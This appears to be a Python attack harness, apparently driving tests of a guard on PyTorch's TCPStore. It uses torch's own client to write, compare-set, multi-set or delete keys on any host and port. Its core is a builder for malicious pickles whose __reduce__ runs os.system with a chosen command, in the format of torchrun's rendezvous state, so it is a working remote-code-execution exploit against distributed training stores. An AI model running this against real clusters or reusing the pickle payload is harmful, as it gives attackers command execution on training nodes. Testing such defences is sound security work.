#!/usr/bin/env python3
"""Well-formed attacks with torch's own TCPStore client (every byte is valid TCPStore).

  policy_attack.py HOST PORT SPEC_JSON [--timeout 10]
  policy_attack.py HOST 0 - --go [--serve-store SPORT]
      # imports torch (and hosts the store under attack on SPORT), prints {"ready": true}, reads {"port", "spec"}
      # from stdin, attacks, prints {"done": true}, and keeps the store until stdin closes

SPEC_JSON is a list of attacks, each on a connection of its own (a new TCPStore client):
  {"op": "set"|"compare_set"|"multi_set"|"delete_key", "key": K, "value": V, "tag": T}
K is the key as torch's Python API takes it (the client adds the wire prefix itself). V is a string,
or {"pickle_system": CMD}: base64 of a pickle whose __reduce__ is (os.system, (CMD,)), the format of
torchrun's rendezvous state; {"raw_pickle_system": CMD} is the pickle itself. compare_set first GETs
the key on the same connection and passes what it returned as the expected value.

SET and MULTI_SET have no reply, so after each call a GETNUMKEYS (num_keys(), in every release's API) on the
same connection tells whether the connection is still open (a guard that blocks closes it). Prints one
JSON line per attack: {"tag" (T, as given), "op", "key", "payload" (the value sent, latin-1), "raised": bool,
"stage": "connect"|"get"|"call"|"check", "error", "client_bug": the exception is this script's or the API's
(AttributeError, TypeError...), not the store connection's}. Exit 0 whatever happened: the test judges.
"""
import argparse
import base64
import datetime
import json
import os
import pickle
import sys


class System:
    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def payload(v):
    if isinstance(v, dict) and "pickle_system" in v:
        return base64.b64encode(pickle.dumps(System(v["pickle_system"]))).decode()
    if isinstance(v, dict) and "raw_pickle_system" in v:
        return pickle.dumps(System(v["raw_pickle_system"]))
    return v


def client(host, port, timeout):
    import torch.distributed as dist
    td = datetime.timedelta(seconds=timeout)
    try:
        return dist.TCPStore(host, port, None, False, td, wait_for_workers=False)
    except TypeError:
        return dist.TCPStore(host, port, None, False, td)


def run(a, spec):
    op, key = spec["op"], spec["key"]
    value = payload(spec.get("value", ""))
    res = {"tag": spec.get("tag"), "op": op, "key": key,
           "payload": value.decode("latin-1") if isinstance(value, bytes) else value,
           "raised": False, "stage": None, "error": None}
    try:
        store = client(a.host, a.port, a.timeout)
    except Exception as e:  # noqa: BLE001
        res.update(raised=True, stage="connect", error=f"{type(e).__name__}: {e}")
        return res
    stage = "call"
    try:
        if op == "set":
            store.set(key, value)
        elif op == "compare_set":
            stage = "get"
            current = store.get(key)
            res["expected"] = current.decode("latin-1")
            stage = "call"
            store.compare_set(key, current, value)
        elif op == "multi_set":
            if not hasattr(store, "multi_set"):
                res.update(stage="absent", error="this release's TCPStore has no multi_set")
                return res
            store.multi_set([key], [value])
        elif op == "delete_key":
            res["deleted"] = store.delete_key(key)
        else:
            raise ValueError(op)
        stage = "check"  # SET and MULTI_SET send no reply: is the connection still open? (num_keys: every release)
        store.num_keys()
    except Exception as e:  # noqa: BLE001
        res.update(raised=True, stage=stage, error=f"{type(e).__name__}: {e}"[:500],
                   client_bug=isinstance(e, (AttributeError, TypeError, NameError, ValueError)))
    return res


def serve_store(port):
    """A real TCPStore master on 127.0.0.1:port, the release's default backend (its server threads never need the GIL)."""
    import torch.distributed as dist
    td = datetime.timedelta(seconds=300)
    try:
        return dist.TCPStore("127.0.0.1", port, None, True, td, wait_for_workers=False)
    except TypeError:
        return dist.TCPStore("127.0.0.1", port, None, True, td)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("spec")
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--go", action="store_true", help="import torch, print {\"ready\": true}, start at a line on stdin: "
                    "{\"port\": P, \"spec\": SPEC} (then PORT and SPEC on the command line are placeholders); after "
                    "the attacks print {\"done\": true} and wait for stdin to close")
    ap.add_argument("--serve-store", type=int, metavar="SPORT", default=None,
                    help="also host the store under attack (a TCPStore master on 127.0.0.1:SPORT) until stdin closes: "
                    "one torch start less per test")
    a = ap.parse_args()
    import torch.distributed  # noqa: F401 (imported before the signal: the attack lands at once)
    server = serve_store(a.serve_store) if a.serve_store else None  # noqa: F841 (kept alive)
    if a.go:
        print(json.dumps({"ready": True, "store_port": a.serve_store}), flush=True)
        go = json.loads(sys.stdin.readline())
        a.port, a.spec = go["port"], json.dumps(go["spec"])
    for spec in json.loads(a.spec):
        print(json.dumps(run(a, spec)), flush=True)
    if a.go:
        print(json.dumps({"done": True}), flush=True)
        sys.stdin.read()
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
